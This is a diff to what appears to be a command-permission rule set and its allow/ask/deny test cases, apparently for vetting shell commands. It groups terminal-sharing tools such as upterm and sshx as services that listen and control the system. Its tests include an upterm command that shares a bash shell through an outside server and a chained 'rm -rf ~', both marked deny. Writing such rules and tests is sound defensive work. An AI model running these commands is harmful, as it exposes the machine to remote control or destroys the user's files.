@@ -93,7 +93,12 @@ KERNEL_TOOLS = loose(
     does=KERNEL,
 )
 SERVERS = loose(
-    "httpd telnetd ftpd tftpd udhcpd dnsd inetd xinetd tcpsvd udpsvd fakeidentd lpd dhcpd dnsmasq ntpd sshd dropbear vsftpd rsyncd smbd nmbd snmpd slapd named xrdp vncserver x11vnc Xvnc ttyd gotty wetty sshx upterm teleconsole code-server",
+    "httpd telnetd ftpd tftpd udhcpd dnsd inetd xinetd tcpsvd udpsvd fakeidentd lpd dhcpd dnsmasq ntpd sshd dropbear vsftpd rsyncd smbd nmbd snmpd slapd named xrdp vncserver x11vnc Xvnc ttyd gotty wetty code-server",
+    does=(listens("a port", "machine"), controls("system services")),
+)
+SHARED = loose(
+    "sshx upterm teleconsole",
+    [option("--server -s", "WORKS_FOR(terminal)")],
     does=(listens("a port", "machine"), controls("system services")),
 )
 FTPGET = command("ftpget ncftpget ncftpls ssl_client", "FETCHES PLAIN...", unlisted=PLAIN)
@@ -293,6 +298,8 @@ ask    httpd -p 8080
 ask    /usr/sbin/httpd -k start
 ask    ./build/systemctl stop firewalld
 deny   ./build/httpd -h www; ./build/rm -rf ~
+deny   upterm host --server ssh://198.51.100.8:22 -- bash
+ask    upterm host -- bash
 allow  ddiff 2024-01-01 2024-03-01 -f '%d days'
 allow  zdump -v Europe/Berlin
 allow  cronstrue '*/5 * * * *'
